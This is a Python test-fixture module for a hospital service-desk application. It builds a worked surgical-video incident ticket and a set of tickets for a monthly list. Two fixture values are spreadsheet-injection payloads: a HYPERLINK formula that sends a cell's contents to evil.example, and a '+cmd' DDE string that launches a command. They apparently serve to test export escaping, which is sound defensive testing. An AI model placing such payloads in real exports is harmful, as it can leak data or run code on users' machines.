"""A worked ticket on seed 004 (from the service desk's fixtures): a P1 incident on the
surgical video system, acknowledged, on site, restored, resolved, with a public and an
internal note, a public and an internal attachment, a fault analysis report and an
answered survey."""

from __future__ import annotations

import datetime as dt
from typing import Any

import pytest

from careops.servicedesk import actions
from careops.servicedesk.actions import attachments
from careops.servicedesk.models import AnalysisReport, EventKind, Survey, Ticket, TicketEvent
from careops.servicedesk.tests import conftest as desk_fixtures

# The service desk's fixtures: seed 004 over a small CMDB.
desk = desk_fixtures.desk
seed_004 = desk_fixtures.seed_004
CST = dt.timezone(dt.timedelta(hours=8))
OPENED = dt.datetime(2026, 11, 10, 10, 0, tzinfo=CST)  # a Tuesday, in working hours
NOW = dt.datetime(2026, 12, 3, 9, 0, tzinfo=CST)
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def at(day: int, hour: int, minute: int = 0) -> dt.datetime:
    return dt.datetime(2026, 11, day, hour, minute, tzinfo=CST)


@pytest.fixture
def worked(seed_004: Any, desk: dict[str, Any], alice: Any, bob: Any,
           charlie: Any) -> Ticket:
    seed_004()
    ticket = actions.open_ticket(charlie, "incident", "手术室3视频无画面",
                                 "手术室3示教视频黑屏，术中无法转播。\n已重启终端无效。",
                                 [desk["video"]], channel="phone", now=OPENED)
    actions.assign(alice, ticket, bob, now=at(10, 10, 2))
    actions.transition(bob, ticket, "acknowledged", note="已电话联系手术室护士长",
                       now=at(10, 10, 5))
    actions.comment(bob, ticket, "内部：怀疑编码器固件问题", public=False, now=at(10, 10, 20))
    actions.transition(bob, ticket, "on_site", now=at(10, 10, 40))
    actions.comment(bob, ticket, "已到场，更换编码器电源", now=at(10, 11, 0))
    attachments.add(bob, ticket, upload="现场照片".encode() * 100, name="现场照片.jpg",
                    now=at(10, 11, 5))
    attachments.add(bob, ticket, upload=b"secret log", name="internal-debug.log",
                    public=False, now=at(10, 11, 6))
    actions.transition(bob, ticket, "restored", now=at(10, 11, 30))
    actions.transition(bob, ticket, "resolved", note="编码器电源模块更换完成",
                       now=at(10, 15, 0))
    AnalysisReport.objects.create(
        ticket=ticket, event_description="编码器电源故障导致视频中断",
        root_cause="电源模块老化", scope="手术室3示教转播", steps_taken="更换电源模块",
        prevention="每季度巡检检查电源模块", author=bob, submitted_at=at(11, 10, 0))
    # The service desk has no action for submitting the report yet: its timeline entries.
    for kind in (EventKind.REPORT, EventKind.TARGET_MET):
        TicketEvent.objects.create(ticket=ticket, at=at(11, 10, 0), actor=bob, kind=kind,
                                   to_value="report")
    Survey.objects.create(ticket=ticket, token_hash="0" * 64, engineer=bob,
                          created_at=at(12, 9, 0), expires_at=at(20, 9, 0),
                          answered_at=at(12, 10, 0), score=5, comment="响应及时")
    ticket.refresh_from_db()
    return ticket


@pytest.fixture
def month_tickets(worked: Ticket, desk: dict[str, Any], alice: Any, bob: Any) -> list[Ticket]:
    """Besides ``worked``: a P3 on the exam system with a title that looks like a formula,
    breached (never responded), and a request in October (not in November's list)."""
    late = actions.open_ticket(alice, "incident", INJECTION, "+cmd|' /C calc'!A0",
                               [desk["exam"]], now=at(20, 9, 0))
    october = actions.open_ticket(alice, "incident", "十月的工单", "", [desk["exam"]],
                                  now=dt.datetime(2026, 10, 12, 9, 0, tzinfo=CST))
    return [worked, late, october]
